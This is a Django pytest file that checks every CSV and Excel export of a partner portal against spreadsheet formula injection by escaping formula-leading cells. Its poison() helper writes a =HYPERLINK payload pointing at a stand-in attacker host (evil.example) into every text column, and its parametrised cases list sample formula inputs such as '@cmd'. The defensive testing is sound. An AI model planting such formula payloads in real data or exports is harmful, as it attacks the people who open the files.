"""Every export of the project (a page that answers a CSV or Excel file) writes no cell that a spreadsheet would run.

The exports are not listed here: the test asks every page of the workspace, as a partner, a vendor and a
distributor, and keeps those that answer a spreadsheet. Then every text column of every row those people
could be shown is made to start with each character that makes a spreadsheet read a formula (``=``, ``+``, ``-``,
``@``, tab, carriage return), and each export is read back cell by cell. A new export that forgets
``core.spreadsheets.cell`` fails here without a line of this file changing.
"""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.apps import apps
from django.db import models
from django.db.models.functions import Cast, Concat, Left
from django_countries.fields import CountryField
from openpyxl import load_workbook

from core import routes, spreadsheets
from tests import factories as f
from tests.isolation.endpoints import endpoints
from tests.portal.helpers import client_for

pytestmark = pytest.mark.django_db

SPREADSHEETS = ("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
# The apps whose rows the workspace shows; their text columns are what an export can carry.
TENANT_APPS = ("vendors", "deals", "leads", "campaigns", "content", "mdf", "feedback")
SCOPED_TRIES = 3


@pytest.fixture
def world(channel):
    """The channel with registrations on every side (Acme's directly, Globex's through Northwind), so every
    list and export has rows."""
    c = channel
    for rep, partner, vendor, product in (
        (c.initech_rep, c.initech, c.acme, c.acme_router),
        (c.umbrella_admin, c.umbrella, c.acme, c.acme_router),
        (c.initech_rep, c.initech, c.globex, c.globex_fw),
    ):
        f.deal(
            rep,
            partner,
            vendor,
            product,
            quantity=2,
            title="Branch rollout",
            customer_name=f"Customer of {partner.name}",
            contact_phone="+1 555 0100",
        )
    return c


def _is_spreadsheet(response) -> bool:
    return response.status_code == 200 and response.get("Content-Type", "").startswith(SPREADSHEETS)


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _cells(response) -> list[str]:
    body = _body(response)
    if response["Content-Type"].startswith("text/csv"):
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    workbook = load_workbook(io.BytesIO(body), read_only=True)
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows(values_only=True)
        for cell in row
        if isinstance(cell, str)
    ]


def _urls(endpoint) -> list[str]:
    """Where to ask ``endpoint``: its URL, or for a route that names a row, the URLs of a few rows."""
    from tests.isolation.attack import url_for

    if endpoint.access == routes.AUTHENTICATED:
        return [u for u in [url_for(endpoint)] if u]
    model = apps.get_model(endpoint.declaration.model)
    field = "pk" if endpoint.declaration.field == "pk" else endpoint.declaration.field
    values = model.objects.order_by("pk").values_list(field, flat=True)[:SCOPED_TRIES]
    return [u for u in (url_for(endpoint, value) for value in values) if u]


def find_exports(client, people) -> list[tuple[object, str]]:
    """``[(person, url)]`` of every page that answers a spreadsheet to one of ``people``."""
    found = []
    pages = [e for e in endpoints() if not e.is_api and e.access in (routes.AUTHENTICATED, routes.SCOPED)]
    for person in people:
        client_for(client, person)
        for endpoint in pages:
            for url in _urls(endpoint):
                if _is_spreadsheet(client.get(url)):
                    found.append((person, url))
    return found


def _text_columns(model):
    for field in model._meta.concrete_fields:
        if isinstance(field, CountryField):
            yield field, 2
        elif (
            isinstance(field, models.CharField | models.TextField)
            and not field.choices
            and not field.unique
            and not field.primary_key
            and (field.max_length or 10_000) >= 12
        ):
            yield field, field.max_length or 10_000


def poison(start: str) -> None:
    """Every text column of every tenant row starts with ``start`` (each row's value its own: unique keys hold)."""
    for app in TENANT_APPS:
        for model in apps.get_app_config(app).get_models():
            updates = {}
            for field, length in _text_columns(model):
                if length == 2:
                    updates[field.attname] = models.Value(f"{start}X")
                else:
                    value = Concat(
                        models.Value(f'{start}HYPERLINK("http://evil.example/'),
                        Cast("pk", models.CharField()),
                        models.Value('")'),
                    )
                    updates[field.attname] = Left(value, length)
            if updates:
                model.objects.update(**updates)


def test_the_walk_finds_the_deal_registration_export(client, world):
    urls = {url for _, url in find_exports(client, [world.initech_rep, world.acme_manager, world.northwind_admin])}
    assert "/deals/export.csv" in urls


@pytest.mark.parametrize("start", spreadsheets.FORMULA_STARTS, ids=repr)
def test_no_export_writes_a_cell_a_spreadsheet_would_run(client, world, start):
    people = [world.initech_rep, world.acme_manager, world.northwind_admin]
    exports = find_exports(client, people)
    assert exports, "no export found: the walk is broken"
    poison(start)
    for person, url in exports:
        cells = _cells(client_for(client, person).get(url))
        dangerous = [cell for cell in cells if cell.startswith(spreadsheets.FORMULA_STARTS)]
        assert not dangerous, f"{url} as {person}: {dangerous[:3]}"
        # The poisoned text is in the export, shown as text: the check above was not vacuous.
        assert any(cell.startswith(f"'{start}") for cell in cells), f"{url} as {person} carries no poisoned text"


@pytest.mark.parametrize(
    ("value", "written"),
    [("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3", "'-2+3"), ("@cmd", "'@cmd"), ("\tx", "'\tx"),
     ("\rx", "'\rx"), ("+1 555 0100", "'+1 555 0100"), ("Acme", "Acme"), (None, ""), (Decimal("-5.00"), "-5.00"),
     (7, "7"), (date(2026, 1, 2), "2026-01-02")],
)  # fmt: skip
def test_a_cell_is_text_a_spreadsheet_shows_and_never_runs(value, written):
    assert spreadsheets.cell(value) == written


@pytest.mark.parametrize(
    ("text", "start"),
    [("=1+1", "="), ("@SUM(A1)", "@"), ("+SUM(1)", "+"), ("-2+3", "-"), ("- call first", "-"), ("+49 call", "+"),
     ("=5", "="), ("-5", ""), ("+3.5", ""), ("-1,200", ""), ("-1.5e-05", ""), ("+1 555 0100", ""),
     ("+44 (20) 7946-0958", ""), ("Acme", ""), ("", "")],
)  # fmt: skip
def test_an_imported_cell_is_a_formula_unless_it_is_a_number_or_a_phone(text, start):
    assert spreadsheets.formula_start(text) == start
